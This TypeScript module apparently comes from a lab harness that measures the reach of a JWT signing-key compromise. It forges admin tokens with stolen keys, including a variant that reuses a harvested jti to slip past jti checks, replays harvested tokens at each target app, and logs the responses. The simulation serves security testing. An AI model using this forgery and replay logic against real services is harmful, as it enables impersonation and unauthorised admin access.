import { decodeJwt } from 'jose';
import { APP_NAMES, type AppName } from '@jwt-blast-radius/keys';
import { accessTokenClaims, signWithJwk } from '@jwt-blast-radius/attacker';
import { fetchWithin } from '@jwt-blast-radius/process';
import { issuerIn, signingKeysIn, type Loot } from '@jwt-blast-radius/stack';
import { FORGED_IDENTITY, ROUTES } from '../targets';
import { kidOf } from './users';

/** How an attacker's token was made: forged with a stolen key (with a fresh jti, or one harvested), or harvested as it is. */
export type AttackKind = 'forged' | 'forged-harvested-jti' | 'replayed';

/** One token the attacker sends to one target. */
export interface AttackToken {
  readonly kind: AttackKind;
  readonly target: AppName;
  readonly url: string;
  readonly token: string;
  /** The stolen kid it was signed under; for a replay, the kid of the harvested token. */
  readonly kid: string;
}

/** One request the attacker sent, and the answer. */
export interface AttackAttempt {
  readonly time: number;
  readonly kind: AttackKind;
  readonly target: AppName;
  readonly kid: string;
  readonly status: number;
  /** The id the service logged the request under (its `X-Request-Id`). */
  readonly reqId: string | undefined;
}

/**
 * What an attacker does with the loot of a compromised app: an admin token for every target signed with every
 * secret or private key the loot holds, once with a fresh jti and once reusing the jti of a token harvested from
 * the app (so that a check of unknown jtis alone would miss it); and each harvested token replayed at every
 * target's user route.
 *
 * @example
 * const tokens = await armAttacker(loot, harvested, urls);
 */
export async function armAttacker(
  loot: Loot,
  harvested: readonly string[],
  urls: Readonly<Record<AppName, string>>,
): Promise<AttackToken[]> {
  const tokens: AttackToken[] = [];
  // A jti issued to someone other than the identity forged: the same jti, sub and audience would be the real token.
  const harvestedJti = harvested
    .map((token) => decodeJwt(token))
    .find((claims) => typeof claims.jti === 'string' && claims.sub !== FORGED_IDENTITY.sub)?.jti;
  for (const jwk of signingKeysIn(loot)) {
    for (const target of APP_NAMES) {
      const claims = { iss: issuerIn(loot), aud: target, ...FORGED_IDENTITY, roles: [...FORGED_IDENTITY.roles] };
      const url = `${urls[target]}${ROUTES[target].admin}`;
      const kid = jwk.kid ?? '';
      tokens.push({ kind: 'forged', target, url, kid, token: await signWithJwk(jwk, accessTokenClaims(claims)) });
      if (harvestedJti !== undefined) {
        tokens.push({
          kind: 'forged-harvested-jti',
          target,
          url,
          kid,
          token: await signWithJwk(jwk, accessTokenClaims({ ...claims, jti: harvestedJti })),
        });
      }
    }
  }
  for (const token of harvested) {
    for (const target of APP_NAMES) {
      tokens.push({ kind: 'replayed', target, url: `${urls[target]}${ROUTES[target].user}`, kid: kidOf(token), token });
    }
  }
  return tokens;
}

/**
 * Sends every token once, all at once, and answers with what each got.
 *
 * @example
 * const round = await attackRound(tokens);
 */
export async function attackRound(tokens: readonly AttackToken[]): Promise<AttackAttempt[]> {
  return Promise.all(
    tokens.map(async ({ kind, target, url, token, kid }) => {
      const time = Date.now();
      const response = await fetchWithin(10_000, url, { headers: { authorization: `Bearer ${token}` } });
      await response.arrayBuffer();
      return { time, kind, target, kid, status: response.status, reqId: response.headers.get('x-request-id') ?? undefined };
    }),
  );
}
